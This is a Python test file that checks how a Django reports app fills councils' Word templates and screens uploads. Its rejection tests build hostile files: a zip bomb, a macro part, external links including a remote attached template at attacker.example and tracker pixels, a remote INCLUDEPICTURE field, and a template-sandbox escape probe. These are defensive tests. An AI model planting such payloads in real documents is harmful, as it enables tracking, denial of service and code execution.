"""A council's own Word template: placeholders in its cover table, header and footer filled by
docxtpl, the report where the template puts it, and the uploads refused before they are parsed
(too big packed or unpacked, macros, anything on another server). The test templates are built
here with python-docx and zipfile, and are small."""

import io
import re
import struct
import zipfile
import zlib

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from docx.shared import Mm

from reports import word_templates
from reports.document import document_for
from reports.models import WordTemplate
from reports.profiles import new_profile
from reports.selectors import report_with_sections
from tests.reports.factories import inspection_with_progress, report_for

pytestmark = pytest.mark.django_db


def _png() -> bytes:
    """A 1x1 PNG: the council's logo."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x1d\x70\xb8")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _save(document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def council_template(*, body: str = "sections") -> bytes:
    """A council's committee paper template: logo, cover table, the report (a loop over the
    sections, or `{{p body }}`), a header and a footer with placeholders."""
    template = docx.Document()
    template.styles["Heading 2"].font.name = "Council Sans"
    template.add_picture(io.BytesIO(_png()), width=Mm(20))
    cover = template.add_table(rows=5, cols=2)
    for row, (label, value) in zip(
        cover.rows,
        [
            ("Committee", "{{ committee }}"),
            ("Date", "{{ meeting_date }}"),
            ("Report of", "{{ report_of }}"),
            ("Key decision", "{{ key_decision }}"),
            ("Open or exempt", "{{ exempt }}"),
        ],
        strict=True,
    ):
        row.cells[0].text, row.cells[1].text = label, value
    template.add_paragraph("{{ title }}", style="Title")
    if body == "sections":
        template.add_paragraph("{%p for section in sections %}")
        template.add_paragraph("{{ section.heading }}", style="Heading 2")
        template.add_paragraph("{{p section.content }}")
        template.add_paragraph("{%p endfor %}")
    elif body == "body":
        template.add_paragraph("{{p body }}")
    template.sections[0].header.paragraphs[0].text = "{{ authority }}: committee paper"
    template.sections[0].footer.paragraphs[0].text = "Anytown Borough Council. {{ title }}"
    return _save(template)


def _rezip(content: bytes, *, add=None, change=None) -> bytes:
    """The package with parts added or changed: change maps a name to a function of its bytes."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if change and item.filename in change:
                data = change[item.filename](data)
            target.writestr(item, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def _relationship(data: bytes, xml: str) -> bytes:
    return data.replace(b"</Relationships>", xml.encode() + b"</Relationships>")


@pytest.fixture
def report(authority, manager):
    profile = new_profile(authority)
    profile.sections.append(
        {"key": "custom-1", "heading": "Consultation", "include": True, "body": "We consulted."}
    )
    profile.sections.insert(
        0,
        {
            "key": "custom-2",
            "heading": "Summary for residents",
            "include": True,
            "body": "In short.",
        },
    )
    profile.save()
    inspection = inspection_with_progress(authority, areas=2, months=2)
    return report_for(
        inspection,
        manager,
        title="Ofsted & us: <progress> {{ 7 * 7 }}",
        key_decision="no",
        exemption="open",
    )


def _upload(client, report, content: bytes, name: str = "council.docx"):
    url = reverse("reports:word_template", kwargs={"authority_pk": report.authority_id})
    return client.post(url, {"file": SimpleUploadedFile(name, content)})


def _export(client, report) -> docx.document.Document:
    response = client.get(reverse("reports:report_docx", kwargs={"report_pk": report.pk}))
    assert response.status_code == 200
    return docx.Document(io.BytesIO(response.content))


def test_a_council_template_is_filled_in_its_cover_table_loop_header_and_footer(
    client, manager, report
):
    client.force_login(manager)
    assert _upload(client, report, council_template()).status_code == 302
    document = _export(client, report)

    cover = document.tables[0]
    assert [[c.text for c in row.cells] for row in cover.rows] == [
        ["Committee", "Children and Young People's Scrutiny Panel"],
        ["Date", "10 July 2024"],
        ["Report of", "Sheila Smith, Director of Children's Services"],
        ["Key decision", "No"],
        ["Open or exempt", "Open"],
    ]
    texts = [p.text for p in document.paragraphs]
    # Escaped, never evaluated: the title is text.
    assert texts[1] == "Ofsted & us: <progress> {{ 7 * 7 }}"
    assert not any("{{" in t and "7 * 7" not in t for t in texts)
    assert not any("{%" in t for t in texts)
    # The sections in the profile's order, each heading in the template's own style, the
    # council's own sections first and last.
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    parts = document_for(report, report_with_sections(report=report)).parts
    assert headings == [part.heading for part in parts]
    assert headings[0] == "Summary for residents"
    assert headings[-2:] == ["Consultation", "Report author and contact"]
    assert "We consulted." in texts and "In short." in texts
    assert document.styles["Heading 2"].font.name == "Council Sans"
    # The logo is still there.
    assert document.inline_shapes and document.inline_shapes[0].type is not None
    # Header and footer filled; the page number in a paragraph of its own.
    section = document.sections[0]
    assert section.header.paragraphs[0].text == "North Somerset: committee paper"
    footer = section.footer.paragraphs
    assert footer[0].text == f"Anytown Borough Council. {report.title}"
    assert footer[-1].text.startswith("Page ") and 'w:instr=" PAGE "' in footer[-1]._p.xml
    assert document.core_properties.title == report.title


def test_body_placeholder_takes_the_whole_report(client, manager, report):
    client.force_login(manager)
    assert _upload(client, report, council_template(body="body")).status_code == 302
    document = _export(client, report)
    styles = [p.style.name for p in document.paragraphs]
    assert styles.count("Heading 1") == 1  # the report's own title
    assert "Purpose of the report" in [p.text for p in document.paragraphs]
    assert document.tables[0].rows[0].cells[1].text == "Children and Young People's Scrutiny Panel"


def test_body_typed_without_the_p_still_makes_a_valid_document(client, manager, report):
    template = docx.Document()
    template.add_paragraph("Before. {{ body }} After.")
    client.force_login(manager)
    assert _upload(client, report, _save(template)).status_code == 302
    document = _export(client, report)
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == report.title and "Purpose of the report" in texts
    assert not any("ilacs-" in t or "Before." in t for t in texts)
    nested = document.element.body.xpath(".//w:p//w:p")
    assert nested == []


def test_a_template_with_only_a_cover_gets_the_report_after_it(client, manager, report):
    client.force_login(manager)
    assert _upload(client, report, council_template(body="none")).status_code == 302
    texts = [p.text for p in _export(client, report).paragraphs]
    assert texts.index(report.title) < texts.index("Purpose of the report")


def test_a_template_is_read_once_and_kept(client, manager, report, monkeypatch, base_queries):
    prepared = []
    real = word_templates._prepare
    monkeypatch.setattr(word_templates, "_prepare", lambda c: prepared.append(1) or real(c))
    client.force_login(manager)
    _upload(client, report, council_template())
    url = reverse("reports:report_docx", kwargs={"report_pk": report.pk})
    client.get(url)
    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    assert len(prepared) == 1  # when it was checked at upload
    # the report; which template (and when it was saved); the sections: never its bytes
    assert len(context.captured_queries) == base_queries + 3
    assert not any('"content"' in q["sql"] for q in context.captured_queries)
    # Another process (or after a restart) reads it once from the database.
    word_templates._PREPARED.clear()
    client.get(url)
    client.get(url)
    assert len(prepared) == 2
    # A new upload replaces it.
    _upload(client, report, council_template(body="body"))
    client.get(url)
    assert len(prepared) == 3
    assert "Purpose of the report" in [
        p.text for p in docx.Document(io.BytesIO(client.get(url).content)).paragraphs
    ]


@pytest.fixture
def base_queries(client, manager) -> int:
    client.force_login(manager)
    client.get(reverse("accessibility"))
    with CaptureQueriesContext(connection) as context:
        client.get(reverse("accessibility"))
    return len(context.captured_queries)


def test_a_styles_only_template_still_works_and_its_footer_text_stays(client, manager, report):
    template = docx.Document()
    template.add_paragraph("Guidance for authors: delete before use")
    template.sections[0].footer.paragraphs[0].text = "Anytown Borough Council"
    client.force_login(manager)
    assert _upload(client, report, _save(template)).status_code == 302
    document = _export(client, report)
    assert "Guidance for authors: delete before use" not in [p.text for p in document.paragraphs]
    footer = document.sections[0].footer.paragraphs
    assert footer[0].text == "Anytown Borough Council"
    assert footer[1].text.startswith("Page ") and 'w:instr=" PAGE "' in footer[1]._p.xml


def _refused(client, report, content: bytes) -> str:
    response = _upload(client, report, content)
    assert response.status_code == 200
    assert not WordTemplate.objects.exists()
    return re.sub(r"\s+", " ", response.content.decode())


@pytest.fixture
def plain() -> bytes:
    return _save(docx.Document())


def test_a_zip_bomb_is_refused_before_it_is_parsed(client, manager, report, plain, monkeypatch):
    bomb = _rezip(plain, add={"word/media/padding.bin": b"\0" * (21 * 1024 * 1024)})
    assert len(bomb) < 100_000  # small packed, 21 MB unpacked
    opened = []
    monkeypatch.setattr(word_templates, "_prepare", lambda c: opened.append(c))
    client.force_login(manager)
    page = _refused(client, report, bomb)
    assert "The template unpacks to more than 20 MB" in page
    assert opened == []  # never handed to python-docx


def test_a_package_that_understates_its_size_is_still_counted(plain):
    bomb = _rezip(plain, add={"word/media/padding.bin": b"\0" * (21 * 1024 * 1024)})
    # Rewrite the archive's claimed sizes for the padding to a few bytes.
    claimed = struct.pack("<I", 21 * 1024 * 1024)
    lying = bomb.replace(claimed, struct.pack("<I", 10))
    with pytest.raises(Exception) as refused:
        word_templates.check(lying)
    assert "20 MB" in str(refused.value) or "not a Word document" in str(refused.value)


def test_a_macro_is_refused(client, manager, report, plain):
    with_macro = _rezip(
        plain,
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
        change={
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        },
    )
    client.force_login(manager)
    assert "The template must not contain macros" in _refused(client, report, with_macro)


@pytest.mark.parametrize(
    ("part", "relationship", "message"),
    [
        (
            "word/_rels/settings.xml.rels",
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="file://attacker.example/share/normal.dotm" '
            'TargetMode="External"/>',
            "an attached template on another computer or server "
            "(file://attacker.example/share/normal.dotm)",
        ),
        (
            "word/_rels/document.xml.rels",
            '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/image" Target="https://tracker.example/pixel.png" TargetMode="External"/>',
            "a picture linked from another server (https://tracker.example/pixel.png)",
        ),
        (
            "word/_rels/document.xml.rels",
            '<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/hyperlink" Target="https://elsewhere.example/" TargetMode="External"/>',
            "a link to another server (https://elsewhere.example/)",
        ),
    ],
)
def test_anything_on_another_server_is_refused_saying_what(
    client, manager, report, plain, part, relationship, message
):
    names = zipfile.ZipFile(io.BytesIO(plain)).namelist()
    if part in names:
        content = _rezip(plain, change={part: lambda d: _relationship(d, relationship)})
    else:
        xml = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{relationship}</Relationships>'
        )
        content = _rezip(plain, add={part: xml.encode()})
    client.force_login(manager)
    page = _refused(client, report, content)
    assert f"The template refers to {message}" in page


def test_a_field_that_fetches_a_remote_picture_is_refused(client, manager, report):
    template = docx.Document()
    paragraph = template.add_paragraph()
    paragraph._p.append(
        docx.oxml.parse_xml(
            '<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'w:instr=" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d "/>'
        )
    )
    client.force_login(manager)
    page = _refused(client, report, _save(template))
    assert "The template has a INCLUDEPICTURE field" in page


def test_placeholders_outside_the_list_or_the_sandbox_are_refused(client, manager, report):
    client.force_login(manager)
    template = docx.Document()
    template.add_paragraph("{{ secret_key }}")
    assert "The template uses {{ secret_key }}, which the export does not fill in" in (
        _refused(client, report, _save(template))
    )
    template = docx.Document()
    template.add_paragraph("{{ title.__class__.__mro__ }}")
    assert "The template&#x27;s placeholders cannot be filled in" in (
        _refused(client, report, _save(template))
    )
    template = docx.Document()
    template.add_paragraph("{% for x in sections %}{{ x.heading }")
    assert "placeholders cannot be read" in _refused(client, report, _save(template))


def test_the_word_template_page_lists_the_placeholders(client, manager, report):
    client.force_login(manager)
    page = client.get(
        reverse("reports:word_template", kwargs={"authority_pk": report.authority_id})
    ).content.decode()
    for name in ("{{ title }}", "{{ committee }}", "{{p body }}", "{%p for section in sections %}"):
        assert name in page
